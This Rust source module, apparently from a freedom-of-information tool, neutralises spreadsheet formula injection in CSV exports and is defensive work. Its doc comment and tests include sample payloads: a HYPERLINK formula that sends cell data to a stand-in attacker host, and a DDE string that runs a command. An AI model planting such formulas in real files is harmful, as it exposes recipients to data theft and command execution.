//! CSV cells that a spreadsheet cannot run. A cell that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
//! (`=HYPERLINK("https://evil.example/?"&A1, "click")`); reply text and body names are
//! written by strangers, so every CSV we write guards its cells (OWASP's rule: a leading
//! `'`), unless the user asks for the exact values (`--raw-csv`).

use std::borrow::Cow;

/// What a CSV cell may not start with.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// How CSV cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvCells {
    /// Formula-like cells get a leading `'` (the default).
    #[default]
    Guarded,
    /// Exactly as they are (`--raw-csv`, for scripts).
    Raw,
}

impl CsvCells {
    pub fn from_raw_flag(raw: bool) -> Self {
        if raw {
            Self::Raw
        } else {
            Self::Guarded
        }
    }

    /// The cell as it should be written.
    pub fn cell<'a>(self, cell: &'a str) -> Cow<'a, str> {
        match self {
            Self::Guarded => neutralise_formula(cell),
            Self::Raw => Cow::Borrowed(cell),
        }
    }
}

/// `cell` with a leading `'` when a spreadsheet would read it as a formula. A plain number
/// (`-3`, `+4.5`) is left alone: it is read as the number it is.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(FORMULA_STARTS);
    if !risky || is_plain_number(cell) {
        return Cow::Borrowed(cell);
    }
    Cow::Owned(format!("'{cell}"))
}

/// The inverse, for CSV we read back (`foi answers import` of an export): a `'` before a
/// formula character goes.
pub fn restore_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    !digits.is_empty()
        && digits.bytes().filter(|b| *b == b'.').count() <= 1
        && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && digits.bytes().any(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_numbers_and_text_are_not() {
        for risky in [
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "- we hold none",
            "-",
        ] {
            let g = neutralise_formula(risky);
            assert_eq!(g, format!("'{risky}"));
            assert_eq!(restore_formula(&g), risky);
        }
        for plain in ["-3", "+4.5", "12", "", "Hikvision", "'quoted", "a=b", "0.5"] {
            assert_eq!(neutralise_formula(plain), plain);
            assert_eq!(restore_formula(plain), plain);
        }
        assert_eq!(CsvCells::Raw.cell("=1"), "=1");
        assert_eq!(CsvCells::default().cell("=1"), "'=1");
    }
}
